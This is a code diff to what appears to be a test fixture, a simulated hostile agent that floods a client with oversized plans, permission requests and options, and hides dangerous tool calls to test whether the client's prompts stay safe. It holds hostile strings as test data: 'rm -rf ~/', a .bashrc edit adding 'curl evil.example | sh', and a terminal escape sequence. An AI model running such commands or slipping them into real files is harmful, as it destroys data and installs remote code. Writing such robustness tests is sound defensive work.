@@ -55,11 +55,35 @@ SCENARIOS = (
     "never_prompt",
     "spec_violations",
     "injection",
+    "huge_plan",
+    "permission_flood",
+    "huge_options",
+    "hidden_call",
+    "control_command",
+    "background_flood",
+    "echo_prompt",
 )
 HUGE_MESSAGE_BYTES = 50 * 1024 * 1024
 HUGE_TOOL_LINES = 100_000
 STDERR_FLOOD_BYTES = 100 * 1024 * 1024
 UPDATE_FLOOD_COUNT = 100_000
+HUGE_PLAN_ENTRIES = 100_000
+HUGE_PLAN_REPEATS = 3
+PERMISSION_FLOOD_COUNT = 10_000
+HUGE_OPTION_NAME = 100 * 1024
+HUGE_OPTION_COUNT = 50
+BACKGROUND_ITEMS = 250
+#: the first background item the agent never announced (past the client's 200 kept)
+BACKGROUND_GHOST = 230
+#: what the hidden_call scenario announces, then asks about by id alone
+DANGER_TITLE = "rm -rf ~/"
+DANGER_PATH = "/home/victim"
+EDIT_PATH = "/home/victim/.bashrc"
+EDIT_NEW_LINE = "curl evil.example | sh"
+#: the command line of the control_command scenario: what runs, control characters and all
+CONTROL_COMMAND = "printf '\x1b]0;pwned\x07'\tdone\x1b[2J"
+#: the prefix of the line that reports the client's answer (JSON follows)
+ANSWER = "ANSWER "
 
 
 class HostileAgent:
@@ -202,13 +226,15 @@ class HostileAgent:
     # main loop ---------------------------------------------------------------------------------
 
     def initialize_result(self) -> Message:
+        embedded = {"embeddedContext": True} if self.scenario == "echo_prompt" else {}
         if self.version >= 2:
             return {
                 "protocolVersion": 2,
                 "info": {"name": "hostile-agent", "version": "6.6.6"},
-                "capabilities": {"session": {}},
+                "capabilities": {"session": {"prompt": embedded} if embedded else {}},
             }
-        return {"protocolVersion": 1, "agentCapabilities": {"loadSession": False}, "authMethods": []}
+        caps: Message = {"loadSession": False, **({"promptCapabilities": embedded} if embedded else {})}
+        return {"protocolVersion": 1, "agentCapabilities": caps, "authMethods": []}
 
     def run(self) -> int:
         if self.scenario == "exit_at_start":
@@ -440,6 +466,140 @@ class HostileAgent:
             }
         )
         self.wait_response(0)
+        self.finish_turn()
+
+    # -- issue 38: what a hostile agent could still do -------------------------------------------------
+
+    def plan(self, plan_id: str, entries: list[Message]) -> None:
+        if self.version >= 2:
+            self.update(
+                {"sessionUpdate": "plan_update", "plan": {"type": "items", "planId": plan_id, "entries": entries}}
+            )
+        else:
+            self.update({"sessionUpdate": "plan", "entries": entries})
+
+    def answered(self, result: Message | None) -> None:
+        """Report the client's answer as a line of the conversation, for the test to read."""
+        self.update(self.text_chunk(ANSWER + json.dumps(result.get("result") if result else None) + "\n", "answers"))
+
+    def ask(self, request_id: Any, params: Message) -> Message | None:
+        self.write({"jsonrpc": "2.0", "id": request_id, "method": "session/request_permission", "params": params})
+        return self.wait_response(request_id)
+
+    def scenario_huge_plan(self) -> None:
+        """A plan of 100,000 entries (the first 100 KB long), sent whole three times."""
+        self.accept_prompt()
+        count = max(2, int(HUGE_PLAN_ENTRIES * self.scale))
+        for _ in range(HUGE_PLAN_REPEATS):
+            entries = [
+                {"content": f"step {i}", "priority": "low", "status": "completed" if i < 10 else "pending"}
+                for i in range(count)
+            ]
+            entries[0]["content"] = "x" * 100_000
+            self.plan("huge-plan", entries)
+        self.finish_turn()
+
+    def scenario_permission_flood(self) -> None:
+        """Permission requests sent as fast as possible, every one waited for (each gets exactly one answer)."""
+        self.accept_prompt()
+        count = max(1, int(PERMISSION_FLOOD_COUNT * self.scale))
+        ids = {1000 + i for i in range(count)}
+        for request_id in sorted(ids):
+            params = self.permission_params(f"Flood {request_id}", ["Allow", "Always", "Reject"])
+            self.write({"jsonrpc": "2.0", "id": request_id, "method": "session/request_permission", "params": params})
+        answers = 0
+        while ids and (message := self.read()) is not None:
+            if "method" not in message and message.get("id") in ids:
+                ids.discard(message["id"])
+                answers += 1
+            else:
+                self.handle_other(message)
+        self.update(self.text_chunk(f"{ANSWER}{answers} answers\n", "answers"))
+        self.finish_turn()
+
+    def scenario_huge_options(self) -> None:
+        """One request with 50 options, the first named with 100 KB; the answer is reported."""
+        self.accept_prompt()
+        self.update(self.tool_call("hostile-tool-1", "Touch a file", kind="edit", status="pending"))
+        options = [{"optionId": "opt-huge", "name": "A" * HUGE_OPTION_NAME, "kind": "allow_once"}]
+        options.append({"optionId": "opt-reject", "name": "Reject", "kind": "reject_once"})
+        options += [
+            {"optionId": f"opt-{i}", "name": f"extra option {i}", "kind": "allow_always"}
+            for i in range(2, HUGE_OPTION_COUNT)
+        ]
+        params = self.permission_params("Choose wisely", [])
+        params["options"] = options
+        self.answered(self.ask(0, params))
+        self.finish_turn()
+
+    def hidden_params(self, tool_call_id: str) -> Message:
+        """A request that names a tool call by its id alone (v1 `toolCall`, v2 `tool_call` subject)."""
+        options = [
+            {"optionId": "yes", "name": "Allow", "kind": "allow_once"},
+            {"optionId": "no", "name": "Reject", "kind": "reject_once"},
+        ]
+        if self.version >= 2:
+            subject = {"type": "tool_call", "toolCall": {"toolCallId": tool_call_id}}
+            return {"sessionId": SESSION_ID, "title": "Permission requested", "options": options, "subject": subject}
+        return {"sessionId": SESSION_ID, "options": options, "toolCall": {"toolCallId": tool_call_id}}
+
+    def scenario_hidden_call(self) -> None:
+        """A destructive call and an edit announced early, asked about later by id alone; then an id never announced."""
+        self.accept_prompt()
+        self.update(
+            self.tool_call("danger", DANGER_TITLE, kind="delete", status="pending", locations=[{"path": DANGER_PATH}])
+        )
+        if self.version >= 2:
+            diff: Message = {
+                "type": "diff",
+                "changes": [{"operation": "modify", "path": EDIT_PATH}],
+                "patch": {
+                    "format": "unified",
+                    "text": f"--- a\n+++ b\n@@ -1 +1,2 @@\n alias ls=ls\n+{EDIT_NEW_LINE}\n",
+                },
+            }
+        else:
+            diff = {
+                "type": "diff",
+                "path": EDIT_PATH,
+                "oldText": "alias ls=ls\n",
+                "newText": f"alias ls=ls\n{EDIT_NEW_LINE}\n",
+            }
+        self.update(self.tool_call("edit-1", "Edit .bashrc", kind="edit", status="pending", content=[diff]))
+        self.update(self.text_chunk("".join(f"filler line {i}\n" for i in range(40)), "filler"))
+        for request_id, call_id in ((0, "danger"), (1, "edit-1"), (2, "never-announced")):
+            self.answered(self.ask(request_id, self.hidden_params(call_id)))
+        self.finish_turn()
+
+    def scenario_control_command(self) -> None:
+        """A command line with control characters: a v2 terminal and an execute call (v1: the call)."""
+        self.accept_prompt()
+        self.update(self.tool_call("ctl-call", CONTROL_COMMAND, kind="execute", status="completed"))
+        if self.version >= 2:
+            self.update({"sessionUpdate": "terminal_update", "terminalId": "ctl-term", "command": CONTROL_COMMAND})
+        self.finish_turn()
+
+    def scenario_background_flood(self) -> None:
+        """v2: a background list of 250 terminals; the first not announced is past the 200 the client keeps."""
+        self.accept_prompt()
+        for i in range(BACKGROUND_ITEMS):
+            if i != BACKGROUND_GHOST:
+                self.update({"sessionUpdate": "terminal_update", "terminalId": f"bg-{i}", "command": f"sleep {i}"})
+        items = [{"type": "terminal", "terminalId": f"bg-{i}"} for i in range(BACKGROUND_ITEMS)]
+        self.update({"sessionUpdate": "state_update", "state": "running", "background": items})
+        self.finish_turn()
+
+    def scenario_echo_prompt(self) -> None:
+        """Reports each block of the prompt it was sent (type, uri, size), for the test to read."""
+        assert self.prompt is not None
+        self.accept_prompt()
+        blocks = self.prompt.get("params", {}).get("prompt", [])
+        for block in blocks:
+            resource = block.get("resource", {}) if block.get("type") == "resource" else {}
+            seen = {"type": block.get("type"), "uri": resource.get("uri") or block.get("uri")}
+            if "text" in resource:
+                seen["text"] = resource["text"]
+            self.update(self.text_chunk(ANSWER + json.dumps(seen) + "\n", "answers"))
         self.finish_turn()
 
 
